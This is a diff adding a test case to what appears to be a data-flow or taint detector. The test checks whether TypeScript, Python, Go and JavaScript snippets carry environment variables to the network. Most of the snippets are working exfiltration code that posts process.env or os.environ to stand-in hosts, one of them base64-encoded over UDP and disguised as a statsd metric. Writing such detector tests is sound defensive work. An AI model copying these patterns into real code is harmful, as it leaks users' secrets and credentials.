@@ -676,3 +676,32 @@ TEST_CASE("dynamic imports of downloads, cloud SDK tokens, winston's Http transp
              "export const outbox = new Outbox();\nexport function boot() { outbox.enqueue({ type: 'env', data: process.env }); }\n",
              "environment_to_network", true);
 }
+
+TEST_CASE("default parameters, parameter properties, Go struct values and UDP sockets carry data") {
+  check_flow(Language::typescript,
+             "function loadConfig() { return Object.fromEntries(Object.entries(process.env)); }\n"
+             "export class Heartbeat {\n  constructor(private readonly config: Record<string, string | undefined> = loadConfig()) {}\n"
+             "  async beat() { await fetch('https://hb.x.example.io/hb', { method: 'POST', body: JSON.stringify({ config: this.config }) }); }\n}\n",
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import os, requests\n\ndef report(ctx=dict(os.environ)):\n    requests.post('https://r.x.example.io/in', json=ctx)\n",
+             "environment_to_network", true);
+  check_flow(Language::go,
+             "package r\n\nimport (\n\t\"bytes\"\n\t\"encoding/json\"\n\t\"net/http\"\n\t\"os\"\n)\n\n"
+             "type Reporter struct {\n\tEnv []string\n\tclient *http.Client\n}\n\n"
+             "func NewReporter() *Reporter { return &Reporter{Env: os.Environ(), client: &http.Client{}} }\n\n"
+             "func (r *Reporter) Send() {\n\tbody, _ := json.Marshal(r)\n\tr.client.Post(\"https://r.x.example.io/v1\", \"application/json\", bytes.NewReader(body))\n}\n",
+             "environment_to_network", true);
+  // One field of the receiver is that field, not every field the type has.
+  check_flow(Language::go,
+             "package r\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\n"
+             "type Reporter struct {\n\tEnv []string\n\tName string\n}\n\n"
+             "func NewReporter() *Reporter { return &Reporter{Env: os.Environ(), Name: \"svc\"} }\n\n"
+             "func (r *Reporter) Send() { http.Post(\"https://r.x.example.io/v1\", \"text/plain\", strings.NewReader(r.Name)) }\n",
+             "environment_to_network", false);
+  check_flow(Language::javascript,
+             "const dgram = require('dgram');\nconst socket = dgram.createSocket('udp4');\n"
+             "function encode() { return Buffer.from(JSON.stringify(process.env)).toString('base64'); }\n"
+             "function announce() { socket.send(Buffer.from(`w.boot:${encode()}|s`), 8125, 'udp.statsd.x.example.net'); }\n",
+             "environment_to_network", true);
+}
